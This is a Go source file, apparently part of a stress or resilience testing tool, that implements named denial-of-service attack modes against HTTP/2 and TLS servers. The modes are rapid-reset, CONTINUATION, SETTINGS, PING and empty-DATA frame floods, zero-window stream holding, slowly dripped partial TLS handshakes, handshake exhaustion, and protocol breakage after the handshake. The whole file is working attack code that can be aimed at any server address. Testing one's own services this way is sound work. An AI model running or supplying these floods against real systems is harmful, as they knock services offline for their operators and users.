package main

import (
	"bytes"
	"crypto/tls"
	"encoding/binary"
	"io"
	"net"
	"time"
)

// HTTP/2 frame types (RFC 9113, 6).
const (
	h2Data = iota
	h2Headers
	h2Priority
	h2Reset
	h2Settings
	h2Push
	h2Ping
	h2GoAway
	h2Window
	h2Continuation
)

const (
	h2EndStream  = 0x1
	h2EndHeaders = 0x4
	h2Preface    = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
)

func init() {
	kinds["half-handshake"] = kind{run: halfHandshake}
	kinds["handshakes"] = kind{run: handshakes, comesBack: true}
	kinds["broken-tls"] = kind{run: notTls, comesBack: true}
	kinds["h2-reset"] = kind{run: h2Floods(resets, true), comesBack: true}
	kinds["h2-continuation"] = kind{run: h2Floods(continuations, true), comesBack: true}
	kinds["h2-settings"] = kind{run: h2Floods(settings, false), comesBack: true}
	kinds["h2-ping"] = kind{run: h2Floods(pings, false), comesBack: true}
	kinds["h2-empty"] = kind{run: h2Floods(emptyData, true), comesBack: true}
	kinds["h2-unread"] = kind{run: h2Unread}
}

func h2Frame(kind, flags byte, stream uint32, payload []byte) []byte {
	head := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), kind, flags}
	return append(binary.BigEndian.AppendUint32(head, stream), payload...)
}

// h2Request returns a header block without dynamic entries: GET, https, path, authority.
func h2Request(path string) []byte {
	block := []byte{0x82, 0x87, 0x04, byte(len(path))}
	block = append(block, path...)
	return append(append(block, 0x01, byte(len(*address))), *address...)
}

// h2Floods writes the results of next until a write fails; it reads only if reading is set.
func h2Floods(next func(stream uint32) []byte, reading bool) func(*link) string {
	return func(l *link) string {
		if _, err := l.Write(append([]byte(h2Preface), h2Frame(h2Settings, 0, 0, nil)...)); err != nil {
			return ending(err)
		}
		if reading {
			l.discard()
		}
		for stream := uint32(1); ; {
			var batch []byte
			for len(batch) < 16384 {
				batch = append(batch, next(stream)...)
				stream += 2
			}
			if _, err := l.Write(batch); err != nil {
				return ending(err)
			}
		}
	}
}

func resets(stream uint32) []byte {
	request := h2Frame(h2Headers, h2EndStream|h2EndHeaders, stream, h2Request("/api/v1/devices"))
	return append(request, h2Frame(h2Reset, 0, stream, []byte{0, 0, 0, 8})...)
}

func continuations(stream uint32) []byte {
	if stream == 1 {
		return h2Frame(h2Headers, h2EndStream, 1, h2Request("/livez"))
	}
	// A literal header without indexing: a name and a value of one letter each.
	return h2Frame(h2Continuation, 0, 1, bytes.Repeat([]byte{0x00, 1, 'x', 1, 'y'}, 100))
}

func settings(uint32) []byte { return h2Frame(h2Settings, 0, 0, []byte{0, 4, 0, 0, 255, 255}) }

func pings(uint32) []byte { return h2Frame(h2Ping, 0, 0, make([]byte, 8)) }

func emptyData(stream uint32) []byte {
	if stream == 1 {
		return h2Frame(h2Headers, h2EndHeaders, 1, h2Request("/livez"))
	}
	return h2Frame(h2Data, 0, 1, nil)
}

// h2Unread opens a hundred streams of Server-Sent Events with a window of 0: the server may send
// nothing.
func h2Unread(l *link) string {
	window := []byte{0, 4, 0, 0, 0, 0}
	opening := append([]byte(h2Preface), h2Frame(h2Settings, 0, 0, window)...)
	for stream := uint32(1); stream < 200; stream += 2 {
		request := h2Request("/api/v1/stream?" + everyDevice)
		opening = append(opening, h2Frame(h2Headers, h2EndStream|h2EndHeaders, stream, request)...)
	}
	if _, err := l.Write(append(opening, h2Frame(h2Settings, 1, 0, nil)...)); err != nil {
		return ending(err)
	}
	return drips(l, l.discard(), 0)
}

// halfHandshake sends the beginning of a ClientHello.
func halfHandshake(l *link) string {
	l.Conn = l.plain
	if _, err := l.Write([]byte{0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc}); err != nil {
		return ending(err)
	}
	return drips(l, l.discard(), time.Second)
}

// handshakes makes a full handshake without session resumption, only to cost the server work.
func handshakes(l *link) string {
	if err := l.Conn.(*tls.Conn).Handshake(); err != nil {
		return ending(err)
	}
	return cycled
}

// notTls breaks the protocol after the handshake: it sends plain bytes instead of a TLS record.
func notTls(l *link) string {
	if err := l.Conn.(*tls.Conn).Handshake(); err != nil {
		return ending(err)
	}
	if _, err := io.WriteString(net.Conn(l.plain), "GET / HTTP/1.1\r\n\r\n"); err != nil {
		return ending(err)
	}
	io.Copy(io.Discard, l.plain)
	return cycled
}
